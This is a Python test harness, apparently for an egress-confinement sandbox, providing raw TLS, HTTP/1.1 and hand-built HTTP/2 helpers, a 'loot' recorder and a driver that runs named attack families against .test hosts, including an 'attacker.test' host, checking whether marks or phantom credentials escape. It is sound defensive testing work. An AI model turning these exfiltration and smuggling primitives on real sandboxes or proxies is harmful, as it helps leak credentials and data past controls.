"""What an attack uses, natively and inside alike. Natively a name leads to the upstream at once; inside
it leads wherever seldom lets it. Only the standard library: nothing else need be inside."""

import json
import os
import secrets
import signal
import socket
import ssl
import subprocess
import sys
import time
import traceback
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "live", "egress"))
import h2  # noqa: E402

LIMIT = 12  # seconds for one attack
IDLE = 0.6  # seconds without a byte after which an answer counts as whole


class Attack:
    def __init__(self, name, effect, run, about):
        self.name, self.effect, self.run, self.about = name, effect, run, about


class Family(dict):
    """The attacks of one file, by name. effect: what must be seen natively and never inside:
    parsed (a request with the mark at the upstream), header:NAME (with that header), told:NAME=VALUE,
    bytes (the mark anywhere outside), all:N (MARK-0- to MARK-N-), loot (the real credential inside),
    loot>N (more than N bytes inside), loot:WORD, connected:ADDRESS, address:ADDRESS, socket:PROTOCOL.

    http1: the same attacks once more where the hosts speak HTTP/1.1 only; else they prefer HTTP/2.
    Natively that makes no difference, so those have their canaries in the family that they are of."""

    def __init__(self, name, about, jail=False, control=("open.test", "/pub/"), http1=False):
        super().__init__()
        self.name, self.about, self.jail, self.control, self.http1 = name, about, jail, control, http1
        self.upstream, self.only_http2 = "h2", set()

    def on_http1(self):
        same = Family(self.name + "-http1", self.about, self.jail, self.control)
        same.update({name: attack for name, attack in self.items() if name not in self.only_http2})
        same.upstream = "tls"
        return same

    def add(self, name, effect, run, about=""):
        if name in self:
            raise SystemExit(f"{self.name}: '{name}' appears twice")
        self[name] = Attack(name, effect, run, about)

    def attack(self, effect="parsed", about="", name=None):
        def take(fn):
            self.add(name or fn.__name__.replace("_", "-"), effect, fn, about or (fn.__doc__ or "").strip())
            return fn
        return take


class Tools:
    """Given to each attack. `mark` is what must not get out, or is in the path of what must not."""

    def __init__(self, name, mark, phase):
        self.name, self.mark, self.native = name, mark, phase == "native"
        self.ports = json.loads(os.environ["UPSTREAM"])
        self.foreign = "sk-test-" + secrets.token_urlsafe(32)

    @staticmethod
    def phantom(grant="api"):
        return os.environ["SELDOM_CREDENTIAL_" + grant.upper()]

    # -- connections --

    def where(self, name, port):
        if not self.native:
            return (name, port)
        if self.ports["jail"]:  # behind walls, where names are known
            return (name, port)
        return ("127.0.0.1", self.ports[{443: "h2", 80: "plain", 7: "raw"}.get(port, "closed")])

    def dial(self, name, port=443, timeout=6):
        return socket.create_connection(self.where(name, port), timeout=timeout)

    def tls(self, name, port=443, sni="", alpn=("http/1.1",), sock=None):
        if self.native:
            ctx = ssl.create_default_context(cafile=os.environ["ROOT"])
        else:
            ctx = ssl.create_default_context()
        if alpn:
            ctx.set_alpn_protocols(list(alpn))
        if sni != "":  # another name, or none: of course no certificate fits
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
        return ctx.wrap_socket(sock or self.dial(name, port), server_hostname=name if sni == "" else sni)

    @staticmethod
    def drain(s, seconds=4.0):
        """All that comes until the end, or until nothing came for a while."""
        data, s_end = b"", time.monotonic() + seconds
        s.settimeout(IDLE)
        try:
            while time.monotonic() < s_end:
                got = s.recv(65536)
                if not got:
                    break
                data += got
                if complete(data):
                    break
        except OSError:
            pass
        return data

    def raw(self, name, data, sni="", port=443, plain=False, wait=4.0):
        """Bytes as they are; the answer's bytes."""
        s = self.dial(name, port) if plain else self.tls(name, port, sni)
        with s:
            for part in data if isinstance(data, (list, tuple)) else [data]:
                s.sendall(part if isinstance(part, bytes) else part.encode("latin-1"))
                if isinstance(data, (list, tuple)):
                    time.sleep(0.05)
            return self.drain(s, wait)

    def request(self, name, target, headers=(), method="GET", body=None, host=None, **more):
        lines = [f"{method} {target} HTTP/1.1", f"Host: {host or name}"] + [f"{k}: {v}" for k, v in headers]
        if body is not None:
            lines.append(f"Content-Length: {len(body)}")
        data = ("\r\n".join([*lines, "Connection: close"]) + "\r\n\r\n").encode("latin-1") + (body or b"")
        return self.raw(name, data, **more)

    def keyed(self, target, headers=(), **more):
        """The same to the API, with what the session was given for it."""
        return self.request("api.test", target, [("x-api-key", self.phantom()), *headers], **more)

    # -- HTTP/2, by hand --

    def frames(self, name, *frames, sni="", wait=3.0):
        with self.tls(name, sni=sni, alpn=("h2",)) as s:
            if s.selected_alpn_protocol() != "h2":
                return None
            s.sendall(h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0) + b"".join(frames))
            return self.drain(s, wait)

    def h2(self, name, headers, body=None, stream=1, **more):
        flags = h2.END_HEADERS | (h2.END_STREAM if body is None else 0)
        frames = [h2.frame(h2.HEADERS, flags, stream, h2.pack(headers))]
        if body is not None:
            frames.append(h2.frame(h2.DATA, h2.END_STREAM, stream, body))
        return self.frames(name, *frames, **more)

    def pseudo(self, name, path, method="GET", scheme="https"):
        return [(":method", method), (":scheme", scheme), (":authority", name), (":path", path)]

    # -- the rest --

    def loot(self, data):
        with open(os.path.join(os.environ["P"], "loot." + self.name), "ab") as f:
            f.write(data)
            f.write(b"\n" + opened(data) + b"\n" + h2.payloads(data))

    def program(self, name, *args, timeout=LIMIT):
        """A compiled attack; MARK is in its environment, and so is where the upstream is."""
        env = {**os.environ, "MARK": self.mark, "PHASE": "native" if self.native else "inside"}
        done = subprocess.run([os.path.join(os.environ["BIN"], name), *args], env=env, timeout=timeout,
                              stdin=subprocess.DEVNULL, capture_output=True)
        if done.returncode == 77 and self.native:
            raise Skip(done.stderr.decode("utf-8", "replace").strip()[-200:])
        return done


class Skip(Exception):
    """Natively: this machine cannot show the effect."""


def complete(data):
    """A whole HTTP/1.1 response with a length, so that nobody waits for more."""
    head, sep, body = data.partition(b"\r\n\r\n")
    if not sep:
        return False
    for line in head.lower().split(b"\r\n"):
        if line.startswith(b"content-length:"):
            try:
                return len(body) >= int(line.split(b":")[1])
            except ValueError:
                return False
    return head.lower().find(b"chunked") >= 0 and body.endswith(b"0\r\n\r\n")


def opened(data):
    """The body without chunks and compression, so that what was hidden in them is found."""
    head, _, body = data.partition(b"\r\n\r\n")
    if b"chunked" in head.lower():
        joined = b""
        while body:
            size, _, rest = body.partition(b"\r\n")
            try:
                n = int(size.split(b";")[0], 16)
            except ValueError:
                break
            joined += rest[:n]
            body = rest[n + 2:] if n else b""
        body = joined
    for _ in range(3):
        for bits in (31, 15):
            try:
                parts = zlib.decompressobj(bits)
                out = parts.decompress(body)
                while parts.unused_data:
                    more = zlib.decompressobj(bits)
                    out += more.decompress(parts.unused_data)
                    parts = more
                body = out
            except zlib.error:
                pass
    return body


def control(tools, family, word):
    """Something granted, after each attack: the network is still there."""
    host, prefix = family.control
    try:
        key = [("x-api-key", tools.phantom())] if host == "api.test" else []
        return tools.request(host, prefix + word, key)[:60].decode("latin-1")
    except OSError as e:
        return repr(e)


def said_in_queries(tools):
    """Granted, not granted and refused: what stands in a query is kept by nobody."""
    with open(os.path.join(os.environ["P"], "query"), encoding="utf-8") as f:
        word = f.read()
    for host, target in [("wide.test", "/x?a="), ("open.test", "/pub/x?a="), ("attacker.test", "/?a=")]:
        try:
            tools.request(host, target + word)
        except OSError:
            pass


def too_long(_sig, _frame):
    raise TimeoutError("the attack took too long")


def drive(family, cases, phase):
    """Runs the attacks named in `cases` (name -> mark) one after the other and writes down what
    became of each; what they did is seen from outside."""
    signal.signal(signal.SIGALRM, too_long)
    told = {}
    with open(os.path.join(os.environ["P"], "phantoms.json"), "w", encoding="utf-8") as f:
        json.dump({k: v for k, v in os.environ.items() if k.startswith("SELDOM_CREDENTIAL_") and phase == "live"}, f)
    said_in_queries(Tools("query", "", phase))
    for name, mark in cases.items():
        tools = Tools(name, mark, phase)
        told[name] = {"skip": None, "error": None, "from": time.time()}
        began = time.monotonic()
        try:
            signal.alarm(LIMIT)
            family[name].run(tools)
        except Skip as e:
            told[name]["skip"] = str(e)
        except (OSError, subprocess.TimeoutExpired) as e:
            told[name]["error"] = repr(e)[:200]
        except Exception:  # a broken attack is a failed case, not a passed one
            told[name]["broken"] = traceback.format_exc()[-600:]
        finally:
            signal.alarm(0)
        told[name]["seconds"] = round(time.monotonic() - began, 2)
        told[name]["to"] = time.time()
        told[name]["control"] = control(tools, family, "control-" + mark[::-1])
        with open(os.path.join(os.environ["P"], "told.json"), "w", encoding="utf-8") as f:
            json.dump(told, f)


if __name__ == "__main__":
    import importlib

    drive(importlib.import_module("families." + sys.argv[1].removesuffix("-http1")).family, json.loads(os.environ["CASES"]), sys.argv[2])
